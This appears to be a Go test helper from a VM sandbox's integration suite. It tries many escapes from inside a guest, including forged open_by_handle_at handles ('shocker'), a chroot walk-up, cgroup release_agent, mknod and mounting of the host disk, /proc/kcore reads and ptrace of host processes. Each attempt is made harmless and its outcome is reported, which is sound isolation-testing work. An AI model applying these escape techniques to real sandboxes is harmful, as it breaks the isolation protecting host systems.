// Command helper is the in-guest half of vmlite's escape suite
// (tests/integration/escape). The test builds it static (CGO_ENABLED=0),
// copies it into a busybox guest's root as /escape and runs it once at boot
// (an inittab ::once: line). It tries, from inside the guest, every way out
// the suite covers, and writes what happened as JSON to -out. Each attempt is
// chosen so that it is harmless even if it succeeded (a sysrq "h" only
// prints help, the clock is set to the time it already has, a sysctl or
// sysfs file gets back the value it holds, init_module gets garbage), because
// an attempt that succeeds is a hole in vmlite to be reported, not a test to
// wreck the host with.
//
// It uses no C library: syscalls busybox cannot make (open_by_handle_at,
// init_module, ptrace) come from golang.org/x/sys/unix.
package main

import (
	"encoding/binary"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"time"

	"golang.org/x/sys/unix"
)

// Attempt is one escape try and its outcome.
type Attempt struct {
	Name string `json:"name"`
	// Refused is true when the guest could not do it.
	Refused bool `json:"refused"`
	// NA marks an attempt this kernel cannot even offer (no sysrq, no
	// module support): neither refused nor escaped.
	NA bool `json:"na,omitempty"`
	// Detail is the error (or, for a success, what was reached).
	Detail string `json:"detail"`
}

// Report is the helper's output.
type Report struct {
	UID      int               `json:"uid"`
	IDOutput string            `json:"idOutput"`
	Owners   map[string][2]int `json:"owners"`
	Created  string            `json:"created"`
	NumProcs int               `json:"numProcs"`
	// CapBnd is the bounding set (hex, as /proc/self/status shows it).
	CapBnd   string    `json:"capBnd"`
	Attempts []Attempt `json:"attempts"`
}

var (
	out         = flag.String("out", "/marker/escape.json", "where the report goes")
	hostDev     = flag.String("hostdev", "", "MAJOR:MINOR of the host's root block device")
	hostDevName = flag.String("hostdevname", "", "the host's root block device path (/dev/vda)")
	hostFile    = flag.String("hostfile", "", "absolute host path of a file outside the guest's root")
	hostPID     = flag.Int("hostpid", 0, "pid (host numbering) of a host process")
	procMarker  = flag.String("procmarker", "", "a string in that host process's command line, reversed (so that our own command line does not hold it)")
	sockets     = flag.String("sockets", "", "comma-separated host paths of vmlite's control and console sockets")
	statPaths   = flag.String("stat", "", "comma-separated guest paths whose owners go to the report too")
	reboot      = flag.String("reboot", "", "call reboot(2) once this file exists (the host has checked the running guest)")
	sub         = flag.String("sub", "", "internal: run one sub-attempt in a child process")
)

func main() {
	flag.Parse()
	*procMarker = reverse(*procMarker)
	if *sub != "" {
		os.Exit(runSub(*sub))
	}
	if _, err := os.Stat(*out); err == nil {
		return // the guest rebooted and ran us again: the report is written
	}
	r := Report{UID: os.Getuid(), Owners: map[string][2]int{}}
	if b, err := exec.Command("/usr/bin/id", "-u").CombinedOutput(); err == nil {
		r.IDOutput = strings.TrimSpace(string(b))
	} else {
		r.IDOutput = "error: " + err.Error()
	}
	paths := []string{"/", "/bin/busybox", "/etc/passwd", "/etc"}
	if *statPaths != "" {
		paths = append(paths, strings.Split(*statPaths, ",")...)
	}
	for _, p := range paths {
		var st unix.Stat_t
		if err := unix.Lstat(p, &st); err == nil {
			r.Owners[p] = [2]int{int(st.Uid), int(st.Gid)}
		}
	}
	created := "/marker/created-by-guest-root"
	if err := os.WriteFile(created, []byte("x"), 0o644); err == nil {
		r.Created = created
	}
	r.NumProcs = len(pids())
	if b, err := os.ReadFile("/proc/self/status"); err == nil {
		for _, l := range strings.Split(string(b), "\n") {
			if v, ok := strings.CutPrefix(l, "CapBnd:"); ok {
				r.CapBnd = strings.TrimSpace(v)
			}
		}
	}
	for _, a := range attempts {
		refused, detail := a.try()
		na := strings.HasPrefix(detail, naPrefix)
		r.Attempts = append(r.Attempts, Attempt{Name: a.name, Refused: refused && !na, NA: na, Detail: detail})
	}
	b, _ := json.MarshalIndent(r, "", "  ")
	tmp := *out + ".tmp"
	if err := os.WriteFile(tmp, b, 0o644); err != nil {
		fmt.Fprintln(os.Stderr, "escape: write report:", err)
		os.Exit(1)
	}
	if err := os.Rename(tmp, *out); err != nil {
		fmt.Fprintln(os.Stderr, "escape: write report:", err)
		os.Exit(1)
	}
	fmt.Println("escape: report written")
	if *reboot != "" {
		for i := 0; ; i++ {
			if _, err := os.Stat(*reboot); err == nil {
				break
			}
			if i > 12000 { // two minutes
				fmt.Fprintln(os.Stderr, "escape: no reboot go-ahead from the host")
				os.Exit(1)
			}
			time.Sleep(10 * time.Millisecond)
		}
		// Only inside a child pid namespace: there CAD_OFF is EINVAL
		// (kernel/pid_namespace.c reboot_pid_ns); on the host it would
		// succeed, and then we must not reboot.
		if err := unix.Reboot(unix.LINUX_REBOOT_CMD_CAD_OFF); !errors.Is(err, unix.EINVAL) {
			fmt.Fprintln(os.Stderr, "escape: not in a child pid namespace, not rebooting:", err)
			os.Exit(1)
		}
		err := unix.Reboot(unix.LINUX_REBOOT_CMD_RESTART)
		fmt.Fprintln(os.Stderr, "escape: reboot returned:", err)
		os.Exit(1)
	}
}

type attempt struct {
	name string
	try  func() (refused bool, detail string)
}

// naPrefix starts the detail of an attempt the kernel does not offer.
const naPrefix = "n/a: "

// refusedBy turns an error into an outcome: any error refuses, but ENOSYS
// means the kernel lacks the feature (no module support).
func refusedBy(err error) (bool, string) {
	if errors.Is(err, unix.ENOSYS) {
		return true, naPrefix + "this kernel lacks the system call: " + err.Error()
	}
	if err != nil {
		return true, err.Error()
	}
	return false, "succeeded"
}

// sysfsTarget returns the value to write back to a sysfs file that
// exists, or "" for a missing one.
func sysfsValue(path string) string {
	b, err := os.ReadFile(path)
	if err != nil {
		return ""
	}
	v := strings.TrimSpace(string(b))
	if i := strings.Index(v, "["); i >= 0 { // "always [madvise] never"
		if j := strings.Index(v[i:], "]"); j > 0 {
			v = v[i+1 : i+j]
		}
	}
	return v + "\n"
}

// writeSysfs writes back what a sysfs file holds, relative to root.
func writeSysfs(root, rel string) (bool, string) {
	if rel == "" {
		return true, naPrefix + "no such file in this guest's view"
	}
	p := filepath.Join(root, rel)
	v := sysfsValue(p)
	if v == "" {
		if _, err := os.Stat(p); errors.Is(err, os.ErrNotExist) {
			return true, naPrefix + p + " does not exist on this kernel"
		}
		v = "\n"
	}
	return writeSame(p, v)
}

// blockSysfs is the host disk's read-ahead knob.
func blockSysfs() string {
	if *hostDevName == "" {
		return ""
	}
	return "block/" + filepath.Base(*hostDevName) + "/queue/read_ahead_kb"
}

var attempts = []attempt{
	{"write /proc/sysrq-trigger", func() (bool, string) {
		if _, err := os.Stat("/proc/sysrq-trigger"); errors.Is(err, os.ErrNotExist) {
			if _, err := os.Stat("/proc/self/mountinfo"); err == nil && !hostHasSysrq() {
				return true, naPrefix + "this kernel has no /proc/sysrq-trigger (CONFIG_MAGIC_SYSRQ off)"
			}
		}
		return writeSame("/proc/sysrq-trigger", "h")
	}},
	{"write a host-wide sysctl in /proc/sys", func() (bool, string) { return writeSame("/proc/sys/kernel/printk_ratelimit", "") }},
	{"mount a fresh proc, write sysrq-trigger", func() (bool, string) {
		if !hostHasSysrq() {
			return true, naPrefix + "this kernel has no /proc/sysrq-trigger (CONFIG_MAGIC_SYSRQ off)"
		}
		return mountAndWrite("proc", "proc", "sysrq-trigger", "h")
	}},
	{"mount a fresh proc, write a host-wide sysctl", func() (bool, string) {
		return mountAndWrite("proc", "proc", "sys/kernel/printk_ratelimit", "")
	}},
	{"mount proc from a new user namespace", func() (bool, string) { return inNewUserNS("mountproc") }},
	{"load a kernel module (init_module)", func() (bool, string) {
		garbage := make([]byte, 64)
		return refusedBy(unix.InitModule(garbage, ""))
	}},
	{"load a kernel module (finit_module)", func() (bool, string) {
		f, err := os.Open("/proc/self/exe")
		if err != nil {
			return true, err.Error()
		}
		defer f.Close()
		return refusedBy(unix.FinitModule(int(f.Fd()), "", 0))
	}},
	{"set the host clock (clock_settime)", func() (bool, string) {
		var ts unix.Timespec
		if err := unix.ClockGettime(unix.CLOCK_REALTIME, &ts); err != nil {
			return true, err.Error()
		}
		return refusedBy(unix.ClockSettime(unix.CLOCK_REALTIME, &ts))
	}},
	{"set the host clock (date -s)", func() (bool, string) {
		now := time.Now().UTC().Format("2006-01-02 15:04:05")
		b, err := exec.Command("/bin/date", "-u", "-s", now).CombinedOutput()
		out := strings.TrimSpace(string(b))
		// busybox date reports "can't set date" and still exits 0.
		if err != nil || strings.Contains(out, "can't set") {
			return true, strings.ReplaceAll(out, "\n", " ")
		}
		return false, "date -s succeeded: " + out
	}},
	{"mount the host's block device by path", func() (bool, string) {
		if *hostDevName == "" {
			return false, "no -hostdevname given"
		}
		return mountDev(*hostDevName)
	}},
	{"mknod the host's disk", func() (bool, string) {
		node, err := mknodHostDisk()
		if err != nil {
			return true, err.Error()
		}
		defer os.Remove(node)
		f, err := os.OpenFile(node, os.O_RDONLY, 0)
		if err != nil {
			return true, "mknod worked, open refused: " + err.Error()
		}
		f.Close()
		return false, "opened the host's disk through " + node
	}},
	{"mount the host's disk from a mknod'ed node", func() (bool, string) {
		node, err := mknodHostDisk()
		if err != nil {
			return true, err.Error()
		}
		defer os.Remove(node)
		return mountDev(node)
	}},
	{"mount devtmpfs, open the host's disk in it", func() (bool, string) {
		refused, detail := mountAndWrite("devtmpfs", "devtmpfs", "", "")
		if refused {
			return true, detail
		}
		// Mounted: now the disk node itself (the device cgroup, where there
		// is one, still refuses the open).
		dir, err := os.MkdirTemp("/tmp", "esc-devtmpfs")
		if err != nil {
			return true, detail + "; mkdir: " + err.Error()
		}
		defer os.Remove(dir)
		if err := unix.Mount("devtmpfs", dir, "devtmpfs", 0, ""); err != nil {
			return true, detail + "; remount: " + err.Error()
		}
		defer unix.Unmount(dir, unix.MNT_DETACH)
		f, err := os.Open(filepath.Join(dir, filepath.Base(*hostDevName)))
		if err != nil {
			return true, detail + ", but the disk node does not open: " + err.Error()
		}
		f.Close()
		return false, detail + " and opened the host's disk " + *hostDevName
	}},
	{"read host kernel memory (/proc/kcore, unmasked first)", func() (bool, string) {
		// The mask is /dev/null bound over it; a mapped guest may remove
		// it (its own mount), then the kernel's CAP_SYS_RAWIO check stands.
		if _, err := os.Stat("/proc/kcore"); errors.Is(err, os.ErrNotExist) {
			return true, naPrefix + "this kernel has no /proc/kcore (CONFIG_PROC_KCORE off)"
		}
		detail := "umount: "
		if err := unix.Unmount("/proc/kcore", unix.MNT_DETACH); err != nil {
			detail += err.Error()
		} else {
			detail += "removed the mask"
		}
		f, err := os.Open("/proc/kcore")
		if err != nil {
			return true, detail + "; " + err.Error()
		}
		defer f.Close()
		n, err := f.Read(make([]byte, 64))
		if n == 0 {
			return true, fmt.Sprintf("%s; read %d bytes (%v)", detail, n, err)
		}
		return false, fmt.Sprintf("%s; read %d bytes of kernel memory", detail, n)
	}},
	{"reach host files through /proc/*/root", procRoots},
	{"reach host files through open_by_handle_at", openByHandle},
	{"break out of a chroot", chrootEscape},
	{"see host processes", seeHostProcs},
	{"ptrace a host process", ptraceHost},
	{"write /sys (uevent_helper)", func() (bool, string) { return writeSysfs("/sys", "kernel/uevent_helper") }},
	{"write /sys (the host disk's read_ahead_kb)", func() (bool, string) { return writeSysfs("/sys", blockSysfs()) }},
	{"write /sys (transparent_hugepage)", func() (bool, string) {
		return writeSysfs("/sys", "kernel/mm/transparent_hugepage/enabled")
	}},
	{"remount /sys read-write, write it", func() (bool, string) {
		err := unix.Mount("", "/sys", "", unix.MS_REMOUNT|unix.MS_BIND|unix.MS_NOSUID|unix.MS_NODEV|unix.MS_NOEXEC, "")
		if err != nil {
			return true, err.Error()
		}
		refused, detail := writeSysfs("/sys", blockSysfs())
		return refused, "remounted read-write; " + detail
	}},
	{"mount a fresh sysfs, write it", func() (bool, string) {
		return mountAndWrite("sysfs", "sysfs", blockSysfs(), "")
	}},
	{"mount a cgroup v1 hierarchy (release_agent)", func() (bool, string) { return mountAndWrite("cgroup", "cgroup", "release_agent", "") }},
	{"reboot the host (reboot(2) outside a pid namespace)", func() (bool, string) {
		// In a child pid namespace only RESTART/POWER_OFF/HALT act, on the
		// guest; anything else is EINVAL. CAD_OFF on the host would only
		// change what Ctrl-Alt-Del does.
		err := unix.Reboot(unix.LINUX_REBOOT_CMD_CAD_OFF)
		if errors.Is(err, unix.EINVAL) {
			return true, "EINVAL: reboot(2) acts on the guest's pid namespace only"
		}
		return refusedBy(err)
	}},
	{"connect to vmlite's control sockets", connectSockets},
}

// writeSame writes value (or, when "", what the file holds) to path.
func writeSame(path, value string) (bool, string) {
	if value == "" {
		b, err := os.ReadFile(path)
		if err != nil {
			return true, "read: " + err.Error()
		}
		value = string(b)
		if value == "" {
			value = "\n"
		}
	}
	f, err := os.OpenFile(path, os.O_WRONLY, 0)
	if err != nil {
		return true, err.Error()
	}
	defer f.Close()
	if _, err := f.WriteString(value); err != nil {
		return true, "open worked, write refused: " + err.Error()
	}
	return false, "wrote " + path
}

// mountAndWrite mounts a filesystem of fstype on a fresh directory and, when
// file is set, writes value (or what it holds) to it.
func mountAndWrite(fstype, source, file, value string) (bool, string) {
	dir, err := os.MkdirTemp("/tmp", "esc-"+fstype)
	if err != nil {
		return true, "mkdir: " + err.Error()
	}
	defer os.Remove(dir)
	opts := ""
	if fstype == "cgroup" {
		opts = "none,name=escape"
		if _, err := os.Stat("/proc/self/cgroup"); err == nil {
			opts = "memory"
		}
	}
	if err := unix.Mount(source, dir, fstype, 0, opts); err != nil {
		return true, err.Error()
	}
	defer unix.Unmount(dir, unix.MNT_DETACH)
	if file == "" {
		return false, "mounted " + fstype
	}
	p := filepath.Join(dir, file)
	if _, err := os.Stat(p); errors.Is(err, os.ErrNotExist) {
		// Mounting by itself is the guest's right (its own cgroup
		// namespace, its own proc); the file is what would reach the host.
		return true, "mounted " + fstype + ", but " + file + " is not there: " + err.Error()
	}
	refused, detail := writeSame(p, value)
	return refused, "mounted " + fstype + "; " + detail
}

func mountDev(dev string) (bool, string) {
	dir, err := os.MkdirTemp("/tmp", "esc-blk")
	if err != nil {
		return true, "mkdir: " + err.Error()
	}
	defer os.Remove(dir)
	var last error
	for _, t := range []string{"ext4", "xfs", "btrfs"} {
		if err := unix.Mount(dev, dir, t, unix.MS_RDONLY, ""); err != nil {
			last = err
			continue
		}
		unix.Unmount(dir, unix.MNT_DETACH)
		return false, "mounted " + dev + " as " + t
	}
	return true, last.Error()
}

func mknodHostDisk() (string, error) {
	maj, min, ok := strings.Cut(*hostDev, ":")
	if !ok {
		return "", fmt.Errorf("no -hostdev")
	}
	ma, _ := strconv.Atoi(maj)
	mi, _ := strconv.Atoi(min)
	node := "/tmp/escape-disk"
	_ = os.Remove(node)
	if err := unix.Mknod(node, unix.S_IFBLK|0o600, int(unix.Mkdev(uint32(ma), uint32(mi)))); err != nil {
		return "", err
	}
	return node, nil
}

func pids() []int {
	ents, _ := os.ReadDir("/proc")
	var out []int
	for _, e := range ents {
		if n, err := strconv.Atoi(e.Name()); err == nil {
			out = append(out, n)
		}
	}
	return out
}

// hostHasSysrq tells whether the kernel has sysrq at all (the guest's
// proc may hide it, so ask the kernel's sysctl directory too).
func hostHasSysrq() bool {
	if _, err := os.Stat("/proc/sysrq-trigger"); err == nil {
		return true
	}
	_, err := os.Stat("/proc/sys/kernel/sysrq")
	return err == nil
}

// procRoots looks for the host file under every process's root.
func procRoots() (bool, string) {
	if *hostFile == "" {
		return false, "no -hostfile given"
	}
	for _, p := range append(pids(), 0) {
		root := "/proc/self/root"
		if p != 0 {
			root = fmt.Sprintf("/proc/%d/root", p)
		}
		if _, err := os.Stat(root + *hostFile); err == nil {
			return false, "found " + root + *hostFile
		}
	}
	return true, fmt.Sprintf("%s under none of %d /proc/*/root", *hostFile, len(pids()))
}

// openByHandle forges a handle for inode 2 (the root directory of an
// ext2/3/4 filesystem: the host's root when the guest's root is a directory
// on it) and opens it ("shocker").
func openByHandle() (bool, string) {
	h, mountID, err := unix.NameToHandleAt(unix.AT_FDCWD, "/", 0)
	detail := ""
	if err != nil {
		detail = "name_to_handle_at: " + err.Error() + "; "
	} else {
		detail = fmt.Sprintf("handle type %d, mount %d; ", h.Type(), mountID)
	}
	root, err := unix.Open("/", unix.O_RDONLY|unix.O_DIRECTORY, 0)
	if err != nil {
		return true, detail + err.Error()
	}
	defer unix.Close(root)
	b := make([]byte, 8)
	binary.LittleEndian.PutUint32(b[0:], 2) // inode 2, generation 0
	forged := unix.NewFileHandle(1, b)      // FILEID_INO32_GEN
	fd, err := unix.OpenByHandleAt(root, forged, unix.O_RDONLY|unix.O_DIRECTORY)
	if err != nil {
		return true, detail + "open_by_handle_at: " + err.Error()
	}
	defer unix.Close(fd)
	if *hostFile != "" {
		if _, err := os.Stat(fmt.Sprintf("/proc/self/fd/%d%s", fd, *hostFile)); err == nil {
			return false, detail + "opened the host's root: " + *hostFile + " is visible"
		}
	}
	return false, detail + "open_by_handle_at opened inode 2"
}

// chrootEscape is the classic: chroot into a subdirectory while keeping the
// cwd outside it, then walk up.
func chrootEscape() (bool, string) {
	if *hostFile == "" {
		return false, "no -hostfile given"
	}
	out, err := exec.Command("/proc/self/exe", "-sub", "chroot", "-hostfile", *hostFile).CombinedOutput()
	s := strings.TrimSpace(string(out))
	if err == nil && strings.HasPrefix(s, "ESCAPED") {
		return false, s
	}
	return true, s
}

func seeHostProcs() (bool, string) {
	if *procMarker == "" {
		return false, "no -procmarker given"
	}
	for _, p := range pids() {
		b, _ := os.ReadFile(fmt.Sprintf("/proc/%d/cmdline", p))
		if strings.Contains(string(b), *procMarker) {
			return false, fmt.Sprintf("host process visible as pid %d", p)
		}
	}
	return true, fmt.Sprintf("%d processes visible, none of them the host's", len(pids()))
}

func ptraceHost() (bool, string) {
	if *hostPID == 0 {
		return false, "no -hostpid given"
	}
	err := unix.PtraceAttach(*hostPID)
	if err != nil {
		return true, fmt.Sprintf("PTRACE_ATTACH %d: %v", *hostPID, err)
	}
	b, _ := os.ReadFile(fmt.Sprintf("/proc/%d/cmdline", *hostPID))
	var ws unix.WaitStatus
	_, _ = unix.Wait4(*hostPID, &ws, 0, nil)
	_ = unix.PtraceDetach(*hostPID)
	if *procMarker != "" && !strings.Contains(string(b), *procMarker) {
		return true, fmt.Sprintf("pid %d in the guest is a guest process (%q), not the host's", *hostPID, b)
	}
	return false, fmt.Sprintf("attached to host pid %d", *hostPID)
}

func connectSockets() (bool, string) {
	if *sockets == "" {
		return false, "no -sockets given"
	}
	var details []string
	for _, s := range strings.Split(*sockets, ",") {
		fd, err := unix.Socket(unix.AF_UNIX, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
		if err != nil {
			return true, err.Error()
		}
		err = unix.Connect(fd, &unix.SockaddrUnix{Name: s})
		unix.Close(fd)
		if err == nil {
			return false, "connected to " + s
		}
		details = append(details, s+": "+err.Error())
	}
	return true, strings.Join(details, "; ")
}

// inNewUserNS runs sub-attempt name in a child with new user and mount
// namespaces, where the guest's root is root again.
func inNewUserNS(name string) (bool, string) {
	cmd := exec.Command("/proc/self/exe", "-sub", name)
	cmd.SysProcAttr = &syscall.SysProcAttr{
		Cloneflags:  unix.CLONE_NEWUSER | unix.CLONE_NEWNS,
		UidMappings: []syscall.SysProcIDMap{{ContainerID: 0, HostID: 0, Size: 1}},
		GidMappings: []syscall.SysProcIDMap{{ContainerID: 0, HostID: 0, Size: 1}},
	}
	out, err := cmd.CombinedOutput()
	s := strings.TrimSpace(string(out))
	if err != nil {
		return true, fmt.Sprintf("%s (%v)", s, err)
	}
	return !strings.HasPrefix(s, "ESCAPED"), s
}

// runSub is the child side of inNewUserNS and chrootEscape.
func runSub(name string) int {
	switch name {
	case "mountproc":
		_ = unix.Mount("", "/", "", unix.MS_REC|unix.MS_PRIVATE, "")
		refused, detail := mountAndWrite("proc", "proc", "sysrq-trigger", "h")
		if !refused {
			fmt.Println("ESCAPED", detail)
			return 0
		}
		fmt.Println(detail)
		return 1
	case "chroot":
		if err := os.MkdirAll("/tmp/esc-chroot/sub", 0o755); err != nil {
			fmt.Println(err)
			return 1
		}
		if err := unix.Chdir("/tmp/esc-chroot"); err != nil {
			fmt.Println(err)
			return 1
		}
		if err := unix.Chroot("sub"); err != nil {
			fmt.Println("chroot:", err)
			return 1
		}
		for i := 0; i < 64; i++ {
			_ = unix.Chdir("..")
		}
		if err := unix.Chroot("."); err != nil {
			fmt.Println("chroot .:", err)
			return 1
		}
		if _, err := os.Stat(*hostFile); err == nil {
			fmt.Println("ESCAPED: " + *hostFile + " visible after walking up")
			return 0
		}
		fmt.Println("walked up to the guest's own root: " + *hostFile + " not there")
		return 1
	}
	fmt.Println("unknown sub-attempt", name)
	return 2
}

func reverse(s string) string {
	b := []byte(s)
	for i, j := 0, len(b)-1; i < j; i, j = i+1, j-1 {
		b[i], b[j] = b[j], b[i]
	}
	return string(b)
}
